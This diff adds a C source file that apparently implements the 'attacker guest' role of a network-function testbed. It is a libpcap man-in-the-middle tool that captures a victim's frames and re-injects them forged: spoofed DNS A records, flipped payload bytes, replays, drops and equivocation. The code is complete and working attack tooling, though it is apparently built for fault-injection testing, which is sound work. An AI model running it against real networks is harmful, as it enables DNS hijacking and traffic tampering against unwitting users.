@@ -1,0 +1,425 @@
+/* mitm — the attacker guest's role: captures the frames the injector steers to its interface
+ * with libpcap (promiscuous, inbound only, filtered on the victim's MAC), rewrites them and
+ * re-injects them with pcap_inject. Modes: dns-spoof (forged A records), flip (one payload byte
+ * inverted), replay (every frame forwarded, plus an old one re-sent), drop (lost), equivocate
+ * (receivers with an odd MAC get flipped copies, the others the truth). --fraction says which
+ * share of frames is attacked, drawn per frame from a seeded generator. */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <getopt.h>
+#include <pcap/pcap.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "vnfs/core/dns.h"
+#include "vnfs/core/loop.h"
+#include "vnfs/core/nsh.h"
+#include "vnfs/core/packet.h"
+#include "vnfs/core/util.h"
+#include "vnfs/ft/rng.h"
+#include "vnfs/sfc/mitm.h"
+#include "vnfs/sfc/role.h"
+#include "vnfs/sfc/roles.h"
+
+#define MITM_SNAPLEN 65535
+#define MITM_REPLAY_RING 16
+
+/* The innermost Ethernet frame: after the NSH header for NSH frames. */
+static int
+inner_frame(uint8_t *frame, size_t len, uint8_t **innerp, size_t *lenp)
+{
+    struct nsh_hdr hdr;
+
+    if (len < PACKET_ETH_HLEN) {
+        return EINVAL;
+    }
+    if (frame[12] == NSH_ETHERTYPE >> 8 && frame[13] == (NSH_ETHERTYPE & 0xff)) {
+        if (nsh_decode(frame + PACKET_ETH_HLEN, len - PACKET_ETH_HLEN, &hdr, NULL)
+            || hdr.next_proto != NSH_NP_ETHERNET) {
+            return EINVAL;
+        }
+        *innerp = frame + PACKET_ETH_HLEN + hdr.len;
+        *lenp = len - PACKET_ETH_HLEN - hdr.len;
+        return 0;
+    }
+    *innerp = frame;
+    *lenp = len;
+    return 0;
+}
+
+/* Skips a (possibly compressed) name at msg[*ofs]; false if it runs past 'len'. */
+static bool
+skip_name(const uint8_t *msg, size_t len, size_t *ofs)
+{
+    while (*ofs < len) {
+        uint8_t c = msg[*ofs];
+
+        if ((c & 0xc0) == 0xc0) {
+            *ofs += 2;
+            return *ofs <= len;
+        }
+        if (c & 0xc0) {
+            return false;
+        }
+        *ofs += 1 + c;
+        if (!c) {
+            return *ofs <= len;
+        }
+    }
+    return false;
+}
+
+int
+mitm_dns_spoof(uint8_t *frame, size_t len, uint32_t spoof_ip_be, size_t *np)
+{
+    struct packet_info pi;
+    struct dns_response resp;
+    uint8_t *inner, *msg;
+    size_t inner_len, msg_len, ofs = DNS_HEADER_LEN, n = 0;
+    unsigned int qd, an;
+    int error;
+
+    error = inner_frame(frame, len, &inner, &inner_len);
+    if (error) {
+        return error;
+    }
+    error = packet_parse(inner, inner_len, &pi);
+    if (error) {
+        return error == EPROTONOSUPPORT ? ENOENT : error;
+    }
+    if (pi.flow.proto != 17 || !pi.has_ports || pi.flow.src_port != htons(DNS_PORT)) {
+        return ENOENT;
+    }
+    msg = inner + pi.l7_ofs;
+    msg_len = pi.l7_len;
+    if (dns_parse_response(msg, msg_len, &resp)) {
+        return EINVAL;
+    }
+    if (!resp.n_addrs) {
+        return ENOENT;
+    }
+    /* The message parsed strictly; the walk below still checks every bound. */
+    qd = msg[4] << 8 | msg[5];
+    an = msg[6] << 8 | msg[7];
+    for (unsigned int i = 0; i < qd; i++) {
+        if (!skip_name(msg, msg_len, &ofs) || (ofs += 4) > msg_len) {
+            return EINVAL;
+        }
+    }
+    for (unsigned int i = 0; i < an; i++) {
+        uint16_t type, class, rdlen;
+
+        if (!skip_name(msg, msg_len, &ofs) || ofs + 10 > msg_len) {
+            return EINVAL;
+        }
+        type = msg[ofs] << 8 | msg[ofs + 1];
+        class = msg[ofs + 2] << 8 | msg[ofs + 3];
+        rdlen = msg[ofs + 8] << 8 | msg[ofs + 9];
+        ofs += 10;
+        if (ofs + rdlen > msg_len) {
+            return EINVAL;
+        }
+        if (type == DNS_TYPE_A && class == DNS_CLASS_IN && rdlen == 4) {
+            memcpy(msg + ofs, &spoof_ip_be, 4);
+            n++;
+        }
+        ofs += rdlen;
+    }
+    if (!n) {
+        return ENOENT;
+    }
+    packet_fix_csums(inner, &pi);
+    if (np) {
+        *np = n;
+    }
+    return 0;
+}
+
+int
+mitm_flip(uint8_t *frame, size_t len, struct ft_rng *rng)
+{
+    struct packet_info pi;
+    uint8_t *inner;
+    size_t inner_len;
+    int error;
+
+    error = inner_frame(frame, len, &inner, &inner_len);
+    if (error) {
+        return error;
+    }
+    error = packet_parse(inner, inner_len, &pi);
+    if (error) {
+        return error == EPROTONOSUPPORT ? ENOENT : error;
+    }
+    if (!pi.has_ports || !pi.l7_len) {
+        return ENOENT;
+    }
+    inner[pi.l7_ofs + ft_rng_below(rng, pi.l7_len)] ^= 0xff;
+    packet_fix_csums(inner, &pi);
+    return 0;
+}
+
+enum mitm_mode { MITM_DNS_SPOOF, MITM_FLIP, MITM_REPLAY, MITM_DROP, MITM_EQUIVOCATE };
+static const char *const mode_names[] = { "dns-spoof", "flip", "replay", "drop", "equivocate" };
+
+struct mitm {
+    struct role role;
+    pcap_t *pcap;
+    enum mitm_mode mode;
+    double fraction;
+    uint32_t spoof_ip;
+    struct ft_rng rng;
+    uint8_t frame[MITM_SNAPLEN];
+    uint8_t *ring[MITM_REPLAY_RING];
+    size_t ring_len[MITM_REPLAY_RING];
+    size_t ring_next;
+    uint64_t n_seen, n_forwarded, n_spoofed, n_flipped, n_replayed, n_dropped, n_errors;
+};
+
+static void
+send_frame(struct mitm *m, const uint8_t *frame, size_t len)
+{
+    if (pcap_inject(m->pcap, frame, len) == (int) len) {
+        m->n_forwarded++;
+    } else {
+        m->n_errors++;
+    }
+}
+
+static void
+remember(struct mitm *m, const uint8_t *frame, size_t len)
+{
+    size_t i = m->ring_next++ % MITM_REPLAY_RING;
+
+    free(m->ring[i]);
+    m->ring[i] = xmalloc(len);
+    memcpy(m->ring[i], frame, len);
+    m->ring_len[i] = len;
+}
+
+static void
+on_frame(u_char *m_, const struct pcap_pkthdr *h, const u_char *bytes)
+{
+    struct mitm *m = (struct mitm *) m_;
+    size_t len = h->caplen;
+    bool attack;
+
+    m->n_seen++;
+    if (h->caplen != h->len || len > sizeof m->frame) {
+        m->n_errors++;          /* Truncated capture: forwarding it would corrupt it. */
+        return;
+    }
+    memcpy(m->frame, bytes, len);
+    attack = ft_rng_chance(&m->rng, m->fraction);
+    switch (m->mode) {
+    case MITM_DNS_SPOOF:
+        m->n_spoofed += attack && !mitm_dns_spoof(m->frame, len, m->spoof_ip, NULL);
+        break;
+    case MITM_FLIP:
+        m->n_flipped += attack && !mitm_flip(m->frame, len, &m->rng);
+        break;
+    case MITM_EQUIVOCATE:
+        m->n_flipped += attack && (m->frame[5] & 1) && !mitm_flip(m->frame, len, &m->rng);
+        break;
+    case MITM_DROP:
+        if (attack) {
+            m->n_dropped++;
+            return;
+        }
+        break;
+    case MITM_REPLAY:
+        if (attack && m->ring_next) {
+            /* The oldest frame kept: the furthest in the past. */
+            size_t i = m->ring_next < MITM_REPLAY_RING ? 0 : m->ring_next % MITM_REPLAY_RING;
+            send_frame(m, m->ring[i], m->ring_len[i]);
+            m->n_replayed++;
+        }
+        remember(m, m->frame, len);
+        break;
+    }
+    send_frame(m, m->frame, len);
+}
+
+static void
+mitm_readable(struct loop *loop, int fd, uint32_t events, void *m_)
+{
+    struct mitm *m = m_;
+
+    if (pcap_dispatch(m->pcap, 256, on_frame, (u_char *) m) < 0) {
+        log_err("pcap: %s", pcap_geterr(m->pcap));
+        loop_stop(loop);
+    }
+}
+
+static int
+open_pcap(struct mitm *m, const char *victim_mac)
+{
+    char errbuf[PCAP_ERRBUF_SIZE] = "";
+    struct bpf_program prog;
+    char *filter = NULL;
+    int error = EIO;
+
+    m->pcap = pcap_create(m->role.iface, errbuf);
+    if (!m->pcap) {
+        log_err("%s: %s", m->role.iface, errbuf);
+        return ENODEV;
+    }
+    if (pcap_set_promisc(m->pcap, 1) || pcap_set_snaplen(m->pcap, MITM_SNAPLEN)
+        || pcap_set_immediate_mode(m->pcap, 1) || pcap_activate(m->pcap) < 0) {
+        log_err("%s: %s", m->role.iface, pcap_geterr(m->pcap));
+        goto out;
+    }
+    /* Outbound frames are our own injections: never capture them again. */
+    if (pcap_setdirection(m->pcap, PCAP_D_IN) || pcap_setnonblock(m->pcap, 1, errbuf)) {
+        log_err("%s: %s", m->role.iface, *errbuf ? errbuf : pcap_geterr(m->pcap));
+        goto out;
+    }
+    if (victim_mac) {
+        filter = xasprintf("ether src %s", victim_mac);
+        if (pcap_compile(m->pcap, &prog, filter, 1, PCAP_NETMASK_UNKNOWN)
+            || pcap_setfilter(m->pcap, &prog)) {
+            log_err("filter '%s': %s", filter, pcap_geterr(m->pcap));
+            goto out;
+        }
+        pcap_freecode(&prog);
+    }
+    error = 0;
+out:
+    free(filter);
+    return error;
+}
+
+static void
+usage(void)
+{
+    printf("usage: sfcd mitm --iface IF --mode dns-spoof|flip|replay|drop|equivocate\n"
+           "                 [--victim-mac MAC] [--fraction F] [--spoof-ip IP] [--seed N]\n"
+           "  --victim-mac MAC  attack only frames from this MAC\n"
+           "  --fraction F      share of frames attacked (default 1)\n"
+           "  --spoof-ip IP     dns-spoof: the forged A record (default 6.6.6.6)\n"
+           "  --seed N          seed of the per-frame draws (default: from the clock)\n"
+           ROLE_COMMON_USAGE);
+}
+
+int
+role_mitm(int argc, char *argv[])
+{
+    static const struct option options[] = {
+        { "mode", required_argument, NULL, 'm' },
+        { "victim-mac", required_argument, NULL, 'v' },
+        { "fraction", required_argument, NULL, 'f' },
+        { "spoof-ip", required_argument, NULL, 's' },
+        { "seed", required_argument, NULL, 'S' },
+        { "help", no_argument, NULL, 'h' },
+        ROLE_COMMON_LONGOPTS,
+        { NULL, 0, NULL, 0 },
+    };
+    const char *victim_mac = NULL;
+    uint64_t seed = time_mono_ns();
+    uint8_t mac[ETH_ADDR_LEN];
+    int opt, error, rc = 2;
+    bool have_mode = false;
+    struct mitm *m;
+    char *end;
+
+    m = xzalloc(sizeof *m);
+    m->fraction = 1;
+    packet_parse_ipv4("6.6.6.6", &m->spoof_ip);
+    role_init_common(&m->role, "mitm");
+    optind = 1;
+    while ((opt = getopt_long(argc, argv, "h", options, NULL)) != -1) {
+        switch (opt) {
+        case 'm':
+            have_mode = false;
+            for (size_t i = 0; i < ARRAY_SIZE(mode_names); i++) {
+                if (!strcmp(optarg, mode_names[i])) {
+                    m->mode = i;
+                    have_mode = true;
+                }
+            }
+            if (!have_mode) {
+                fprintf(stderr, "sfcd mitm: --mode: '%s' is not one of dns-spoof, flip, "
+                        "replay, drop, equivocate\n", optarg);
+                goto out;
+            }
+            break;
+        case 'v':
+            if (!packet_parse_mac(optarg, mac)) {
+                fprintf(stderr, "sfcd mitm: --victim-mac: '%s' is not a MAC\n", optarg);
+                goto out;
+            }
+            victim_mac = optarg;
+            break;
+        case 'f':
+            m->fraction = strtod(optarg, &end);
+            if (*end || end == optarg || !(m->fraction > 0 && m->fraction <= 1)) {
+                fprintf(stderr, "sfcd mitm: --fraction: '%s' is not in (0, 1]\n", optarg);
+                goto out;
+            }
+            break;
+        case 's':
+            if (!packet_parse_ipv4(optarg, &m->spoof_ip)) {
+                fprintf(stderr, "sfcd mitm: --spoof-ip: '%s' is not an address\n", optarg);
+                goto out;
+            }
+            break;
+        case 'S':
+            seed = strtoull(optarg, &end, 0);
+            if (*end || end == optarg) {
+                fprintf(stderr, "sfcd mitm: --seed: '%s' is not a number\n", optarg);
+                goto out;
+            }
+            break;
+        case 'h':
+            usage();
+            rc = 0;
+            goto out;
+        default:
+            error = role_parse_common(&m->role, opt, optarg);
+            if (error == ENOENT) {
+                usage();
+            }
+            if (error) {
+                goto out;
+            }
+        }
+    }
+    if (optind != argc || !have_mode || !m->role.iface) {
+        usage();
+        goto out;
+    }
+    rc = 1;
+    ft_rng_init(&m->rng, seed);
+    error = open_pcap(m, victim_mac);
+    if (error) {
+        goto out;
+    }
+    role_add_counter(&m->role, "seen", &m->n_seen);
+    role_add_counter(&m->role, "forwarded", &m->n_forwarded);
+    role_add_counter(&m->role, "spoofed", &m->n_spoofed);
+    role_add_counter(&m->role, "flipped", &m->n_flipped);
+    role_add_counter(&m->role, "replayed", &m->n_replayed);
+    role_add_counter(&m->role, "dropped", &m->n_dropped);
+    role_add_counter(&m->role, "errors", &m->n_errors);
+    error = role_start(&m->role);
+    if (!error) {
+        error = loop_add_fd(m->role.loop, pcap_get_selectable_fd(m->pcap), EPOLLIN,
+                            mitm_readable, m);
+    }
+    if (error) {
+        log_err("cannot start: %s", strerror(error));
+        goto out;
+    }
+    rc = role_run(&m->role);
+out:
+    role_finish(&m->role);
+    if (m->pcap) {
+        pcap_close(m->pcap);
+    }
+    for (size_t i = 0; i < MITM_REPLAY_RING; i++) {
+        free(m->ring[i]);
+    }
+    free(m);
+    return rc;
+}
